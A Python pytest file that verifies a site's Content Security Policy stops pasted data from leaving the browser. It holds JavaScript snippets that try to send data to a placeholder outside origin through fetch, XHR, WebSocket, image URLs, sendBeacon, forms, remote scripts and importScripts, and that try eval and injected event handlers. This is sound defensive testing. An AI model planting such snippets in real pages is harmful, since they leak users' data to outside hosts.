"""Nothing pasted leaves the browser: what would carry it out is refused, on the page and inside its worker.

Each attempt is JavaScript that gives "went through" or says how it failed; `ELSEWHERE` is another origin.
The proof is threefold: the attempt failed, the policy was named as the reason, and nobody knocked there.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.browser.serving import elsewhere

if TYPE_CHECKING:
    from tests.browser.tab import Tab

ANYWHERE = {
    "fetch": 'await fetch("ELSEWHERE", {mode: "no-cors"}); return "went through"',
    "fetch of its own site": 'await fetch(location.origin); return "went through"',
    "XMLHttpRequest": """
        const request = new XMLHttpRequest()
        request.open("POST", "ELSEWHERE")
        return new Promise(done => { request.onload = () => done("went through")
                                     request.onerror = () => done("failed")
                                     request.send("pasted") })""",
    "WebSocket": """
        const socket = new WebSocket("ELSEWHERE".replace("http", "ws"))
        return new Promise(done => { socket.onopen = () => done("went through")
                                     socket.onerror = () => done("failed") })""",
    "EventSource": """
        const source = new EventSource("ELSEWHERE")
        return new Promise(done => { source.onopen = () => done("went through")
                                     source.onerror = () => done("failed") })""",
    "eval": "return eval(\"'went through'\")",
    "new Function": "return new Function(\"return 'went through'\")()",
}
ON_THE_PAGE = {
    **ANYWHERE,
    "an image": """
        const image = new Image()
        image.src = "ELSEWHERE?pasted"
        return new Promise(done => { image.onload = () => done("went through")
                                     image.onerror = () => done("failed") })""",
    "a style sheet": """
        const link = Object.assign(document.createElement("link"), {rel: "stylesheet", href: "ELSEWHERE"})
        document.head.append(link)
        return new Promise(done => { link.onload = () => done("went through")
                                     link.onerror = () => done("failed") })""",
    "a script": """
        const script = Object.assign(document.createElement("script"), {src: "ELSEWHERE"})
        document.head.append(script)
        return new Promise(done => { script.onload = () => done("went through")
                                     script.onerror = () => done("failed") })""",
    "a frame": """
        const frame = Object.assign(document.createElement("iframe"), {src: "ELSEWHERE"})
        document.body.append(frame)
        return new Promise(done => { frame.onload = frame.onerror = () => done("failed") })""",
    "a form": """
        const form = Object.assign(document.createElement("form"), {action: "ELSEWHERE", method: "post"})
        document.body.append(form)
        form.submit()
        return new Promise(done => setTimeout(() => done("still here"), 300))""",
    "a beacon": 'navigator.sendBeacon("ELSEWHERE", "pasted"); return "sent without an answer"',
    "markup with a handler": """
        document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.ran = true">')
        return new Promise(done => setTimeout(() => done(window.ran ? "went through" : "failed"), 300))""",
}
IN_THE_WORKER = {
    **ANYWHERE,
    "importScripts": 'importScripts("ELSEWHERE"); return "went through"',
}


def refused(tab: Tab, said: object, knocks: list[str]) -> None:
    reasons = [str(said), *tab.complaints()]
    assert said != "went through"
    assert any("Content Security Policy" in reason for reason in reasons)
    assert knocks == []


@pytest.mark.parametrize("attempt", ON_THE_PAGE.values(), ids=ON_THE_PAGE)
def test_the_page_is_refused(attempt: str, tab: Tab, site: str) -> None:
    with elsewhere() as (address, knocks):
        tab.open(site)
        refused(tab, tab.run(attempt.replace("ELSEWHERE", address)), knocks)


@pytest.mark.parametrize("attempt", IN_THE_WORKER.values(), ids=IN_THE_WORKER)
def test_the_worker_is_refused(attempt: str, tab: Tab, site: str) -> None:
    with elsewhere() as (address, knocks):
        tab.open(site + "?example=session")
        refused(tab, tab.run_in_worker(attempt.replace("ELSEWHERE", address)), knocks)
